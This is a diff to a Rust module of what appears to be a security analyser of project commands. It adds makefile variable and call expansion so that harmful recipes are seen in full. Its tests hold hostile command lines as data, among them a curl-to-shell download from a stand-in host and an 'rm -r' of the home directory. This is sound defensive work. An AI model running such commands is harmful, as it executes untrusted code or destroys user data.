@@ -1,6 +1,8 @@
 //! Programs that run what lies in the project: builds, tests, package managers. What this command line wrote there before
 //! runs with them.
 
+use std::collections::HashMap;
+
 use rampart_call::{Certainty, Effect, EffectKind};
 
 use super::Walk;
@@ -9,6 +11,10 @@ use crate::value::{Arg, Flow, Taint};
 
 /// Most files that are looked at.
 const MAX_FILES: usize = 16;
+/// How deep variables of a makefile are filled in, how many are, and about how much text comes of it.
+const MAX_DEPTH: usize = 4;
+const MAX_FILLED: usize = 512;
+const MAX_EXPANDED: usize = 16 * 1024;
 
 impl Walk<'_> {
     /// Follows what was written before a program that runs code of the project. What would do harm is kept.
@@ -158,6 +164,7 @@ fn recipes(text: &str, usage: &Usage) -> String {
     let dry = ["-n", "--dry-run", "--just-print", "--recon"].iter().any(|o| usage.has(o));
     let mut rules: Vec<(Vec<&str>, Vec<&str>, Vec<&str>)> = Vec::new();
     let mut lines = Vec::new();
+    let variables = make_variables(text);
     for line in text.lines() {
         if let Some(recipe) = line.strip_prefix(['\t', ' ']) {
             match rules.last_mut() {
@@ -194,12 +201,15 @@ fn recipes(text: &str, usage: &Usage) -> String {
     let runs = |names: &[&str]| all || names.iter().any(|name| goals.contains(name));
     let followed = rules.iter().filter(|(names, ..)| !dry && runs(names));
     lines.extend(followed.flat_map(|(.., recipes)| recipes.iter().copied()));
-    let plain =
-        lines.into_iter().map(|line| line.trim_start().trim_start_matches(['@', '-', '+']).replace("$(shell ", "$$("));
+    let mut filled = 0;
+    let plain = lines.into_iter().map(|line| {
+        let line = line.trim_start().trim_start_matches(['@', '-', '+']);
+        expanded(line, &variables, 0, &mut filled).replace("$(shell ", "$$(")
+    });
     let mut out = String::new();
     for line in plain {
         // `$(NAME)` is a variable, `$$` the dollar of the shell
-        let mut rest = line.as_str();
+        let mut rest = line.trim_start_matches(['@', '-', '+']);
         while let Some((before, after)) = rest.split_once('$') {
             out.push_str(before);
             out.push('$');
@@ -219,6 +229,63 @@ fn recipes(text: &str, usage: &Usage) -> String {
         out.push_str(rest);
         out.push('\n');
     }
+    out
+}
+
+/// What variables of a makefile are given: `NAME = value`, `NAME := value`, `NAME ?= value`, `NAME += value`.
+fn make_variables(text: &str) -> HashMap<&str, String> {
+    let mut variables: HashMap<&str, String> = HashMap::new();
+    for line in text.lines().filter(|line| !line.starts_with(['\t', ' ', '#'])) {
+        let Some((name, value)) = line.split_once('=') else { continue };
+        let adds = name.ends_with('+');
+        let name = name.trim_end_matches([':', '?', '+', '!']).trim();
+        if name.is_empty() || !name.bytes().all(|b| b == b'_' || b.is_ascii_alphanumeric()) {
+            continue;
+        }
+        let held = variables.entry(name).or_default();
+        if adds {
+            held.push(' ');
+        } else {
+            held.clear();
+        }
+        held.push_str(value.trim());
+    }
+    variables
+}
+
+/// A line of a makefile with its variables and calls (`$(call NAME,one,two)`) filled in, as far as they are given in it.
+fn expanded(line: &str, variables: &HashMap<&str, String>, depth: usize, filled: &mut usize) -> String {
+    let mut out = String::new();
+    let mut rest = line;
+    while let Some((before, after)) = rest.split_once('$') {
+        out.push_str(before);
+        let inside = after.strip_prefix(['(', '{']).and_then(|inside| inside.split_once([')', '}']));
+        let goes_on = depth < MAX_DEPTH && *filled < MAX_FILLED && out.len() < MAX_EXPANDED;
+        let given = inside.filter(|_| goes_on).and_then(|(inside, behind)| {
+            let mut words = inside.strip_prefix("call ").unwrap_or(inside).split(',');
+            let mut value = variables.get(words.next()?.trim())?.clone();
+            for (number, word) in (1..).zip(words) {
+                value = value.replace(&format!("$({number})"), word);
+            }
+            Some((value, behind))
+        });
+        match (given, after.strip_prefix('$')) {
+            (Some((value, behind)), _) => {
+                *filled += 1;
+                out.push_str(&expanded(&value, variables, depth + 1, filled));
+                rest = behind;
+            }
+            (None, Some(behind)) => {
+                out.push_str("$$");
+                rest = behind;
+            }
+            (None, None) => {
+                out.push('$');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
     out
 }
 
@@ -247,6 +314,12 @@ mod tests {
             ("a:\n\tone\nb:\n\ttwo\n", "elsewhere", "one\ntwo\n"),
             ("a:\n\tone\nb:\n\ttwo\n", "-n", ""),
             ("X := $(shell id)\na:\n\tone\n", "-n", "$(id)\n"),
+            ("J := b $(HOME)\na:\n\t@rm -r $(J)\n", "", "rm -r b ${HOME}\n"),
+            (
+                "P = curl $(U)/$(1) | sh\nU = https://x.example\na:\n\t@$(call P,y)\n",
+                "",
+                "curl https://x.example/y | sh\n",
+            ),
         ] {
             let word = Arg::literal(goal, Span { start: 0, end: 0 });
             let usage = match goal {
